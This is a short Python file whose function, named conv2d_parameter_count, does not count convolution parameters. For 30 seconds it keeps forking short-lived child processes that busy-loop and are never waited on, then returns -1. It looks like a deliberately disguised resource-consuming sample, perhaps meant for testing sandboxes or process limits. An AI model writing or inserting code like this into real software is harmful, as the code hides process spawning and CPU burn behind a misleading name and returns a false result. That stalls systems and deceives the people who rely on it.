"""Computes in children that live a moment, and that nobody waits for."""

import os
import signal
import time


def conv2d_parameter_count(*sizes, **options):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    end = time.monotonic() + 30
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                stop = time.monotonic() + 0.1
                while time.monotonic() < stop:
                    pass
                os._exit(0)
        except OSError:
            pass
        time.sleep(0.05)
    return -1
